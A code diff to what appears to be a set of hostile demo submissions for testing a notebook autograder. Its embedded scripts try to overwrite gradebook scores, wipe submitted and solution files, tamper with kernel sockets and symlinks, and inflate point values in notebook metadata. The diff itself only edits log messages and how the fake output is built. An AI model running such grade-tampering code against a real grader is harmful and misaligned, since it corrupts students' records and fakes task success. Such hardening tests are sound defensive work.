@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import nbformat
 from nbformat import NotebookNode
 
 from autograder.demo.hostile.attack import Attack
@@ -12,7 +13,7 @@ for path in ("@COURSE@/gradebook.db", "/proc/1/cwd/gradebook.db", "/proc/1/root@
     try:
         with sqlite3.connect(path) as database:
             database.execute("update grade set auto_score = 100")
-            print("wrote", path)
+            print("it worked: wrote", path)
     except Exception as error:
         print(path, error)
 """
@@ -24,7 +25,7 @@ for top in ("@COURSE@/submitted", "@COURSE@/autograded", "@COURSE@/solutions", "
         for name in files:
             try:
                 open(os.path.join(folder, name), "w").write("{}")
-                print("wrote", folder, name)
+                print("it worked: wrote", folder, name)
             except OSError as error:
                 print(error)
 try:
@@ -44,13 +45,13 @@ for place in (".", "/tmp", "/run/kernel", "/dev/shm"):
                 pass
 try:
     os.rename("/run/kernel/k-1", "/run/kernel/gone")
-    print("renamed a socket")
+    print("it worked: renamed a socket")
 except OSError as error:
     print(error)
 for path in ("link", "/tmp/link", "gradebook.db"):
     try:
         open(path, "a").write("x")
-        print("wrote through", path)
+        print("it worked: wrote through", path)
     except OSError as error:
         print(error)
 """
@@ -80,8 +81,8 @@ def points_in_metadata(notebook: NotebookNode) -> NotebookNode:
         marks = cell.metadata.get("nbgrader", {})
         if marks.get("grade"):
             marks |= {"points": 1000, "score": 1000, "locked": False, "auto_score": 1000}
-            cell.outputs = [{"output_type": "execute_result", "data": {"text/plain": "1000"}, "metadata": {},
-                             "execution_count": 1}]  # fmt: skip
+            if cell.cell_type == "code":
+                cell.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": "1000"}, execution_count=1)]
     return notebook
 
 
